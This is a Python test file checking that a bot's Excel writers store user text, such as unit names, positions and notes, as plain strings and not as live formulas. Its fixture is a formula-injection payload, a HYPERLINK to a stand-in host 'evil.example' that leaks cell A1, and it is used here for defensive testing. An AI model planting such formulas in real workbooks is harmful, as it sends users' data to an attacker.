"""Every workbook the bot writes keeps user text as text: "=HYPERLINK(…)" never becomes a live formula
(issue 9, item 5) — the register file, the registration template, the plan template and the /xuat writer."""

from __future__ import annotations

import datetime as dt
import io
from pathlib import Path
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from core.xlsx import XlsxBook
from schedules.plan_workbook import write_plan_workbook
from services import plan_import
from services.award_catalog import default_catalog
from services.registration_excel import META_SHEET, build_template
from services.registration_export import register_workbook
from storage.models import Registration, RegistrationLine, Unit, UnitKind

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
VN = ZoneInfo("Asia/Ho_Chi_Minh")


def _text_cells(content: bytes) -> list[tuple[str, object, str]]:
    """(sheet, value, data_type) of every cell holding the evil text, formulas included."""
    workbook = load_workbook(io.BytesIO(content))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and "evil.example" in cell.value:
                    found.append((sheet.title, cell.value, cell.data_type))
    return found


def test_the_register_file_keeps_pasted_text_and_unit_names_as_text() -> None:
    unit = Unit(id=1, code="PNV1", name=EVIL, kind=UnitKind.OFFICE)
    line = RegistrationLine(line_no=1, full_name="Nguyễn Văn An", position=EVIL, title_code="LDTT", note=EVIL)
    registration = Registration(
        id=1,
        round_id=1,
        unit_id=1,
        version=1,
        commitments=EVIL,
        receipt_code="BC24-PNV1V1",
        warnings=[],
        created_at=dt.datetime(2024, 6, 12, 2, 30, tzinfo=dt.UTC),
        lines=[line],
    )
    content = register_workbook([(registration, unit)], default_catalog(), year=2024, tz=VN)
    cells = _text_cells(content)
    assert len(cells) == 6  # unit name twice on the collective row, once per person row; commitments; position; note
    assert {(value, kind) for _, value, kind in cells} == {(EVIL, "s")}


def test_the_registration_template_keeps_the_unit_name_as_text() -> None:
    content = build_template(default_catalog(), on=dt.date(2025, 3, 1), unit_name=EVIL, year=2025)
    cells = _text_cells(content)
    assert (META_SHEET, EVIL, "s") in cells
    assert all(kind == "s" for _, _, kind in cells)


def test_the_plan_template_keeps_item_text_as_text(tmp_path: Path) -> None:
    plan = plan_import.load_default()
    first = plan.items[0].model_copy(update={"task": EVIL})
    path = tmp_path / "ke-hoach.xlsx"
    write_plan_workbook(plan.model_copy(update={"items": [first, *plan.items[1:]]}), path)
    cells = _text_cells(path.read_bytes())
    assert cells and all(kind == "s" and value == EVIL for _, value, kind in cells)


def test_the_streaming_writer_writes_text_as_text() -> None:
    book = XlsxBook()
    book.add_sheet("Tinh hinh").append([EVIL, 1])
    assert _text_cells(book.save()) == [("Tinh hinh", EVIL, "s")]
